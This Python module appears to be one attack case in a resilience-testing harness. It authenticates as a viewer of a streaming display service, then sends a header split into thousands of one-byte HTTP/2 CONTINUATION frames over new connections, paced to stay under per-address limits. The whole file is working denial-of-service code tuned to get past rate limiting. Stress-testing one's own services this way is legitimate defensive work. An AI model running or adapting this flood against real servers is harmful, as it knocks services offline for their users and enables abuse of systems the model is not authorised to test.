"""A viewer's headers in crumbs: one of as many bytes as somebody known may send at once, on a new
connection each time, as often as an address may have them."""

import collections
import itertools
import time

import wire
from target import Cut

WAYS = ("tls", "plain")
ROLE = "viewer"
FLOOR = {"frames": 500}
# Of a header, the begin in whole frames and the rest a byte each: what costs most of 96 KiB.
WHOLE, CRUMBS = 44 << 10, 4500
# Between two of them. More were more than an address may send.
PERIOD_S = 0.08
UNDER_WAY = 16
# Until the first picture.
PICTURE_MAX_S = 1.0


def attack(target):
    header = header_in_crumbs(target)
    # What is closed at once is read by nobody.
    under_way = collections.deque()
    for number in itertools.count():
        began = time.monotonic()
        try:
            under_way.append(target.connect(number))
            crumble(target, under_way[-1], header)
        except Cut as cut:
            target.cut(cut)
        if len(under_way) > UNDER_WAY:
            under_way.popleft().close()
        time.sleep(max(0.0, min(target.left(), began + PERIOD_S - time.monotonic())))


def header_in_crumbs(target):
    """Of the connection's second call."""
    begin = b"".join(wire.literal(name, value) for name, value in
                     wire.request_headers(wire.HEALTH_CHECK, target.scheme))
    begin += b"\x00" + wire.string("x") + wire.integer(WHOLE + CRUMBS, 7)
    frames = [wire.frame(wire.HEADERS, 0, 3, begin)]
    for at in range(0, WHOLE, wire.FRAME_MAX):
        whole = b"y" * min(WHOLE - at, wire.FRAME_MAX)
        frames.append(wire.frame(wire.CONTINUATION, 0, 3, whole))
    return b"".join(frames) + wire.frame(wire.CONTINUATION, 0, 3, b"y") * CRUMBS


def crumble(target, connection, header):
    connection.open_call(wire.STREAM_DISPLAY, wire.stream_start(target.display), False,
                         target.credentials())
    # Who has a picture is known, and may send more than a stranger.
    deadline = time.monotonic() + PICTURE_MAX_S
    while time.monotonic() < deadline:
        connection.flush()
        connection.wait(0.01)
        if any(what == "message" for _, what, _ in connection.events()):
            break
    connection.send(header)
    connection.count("frames", CRUMBS)
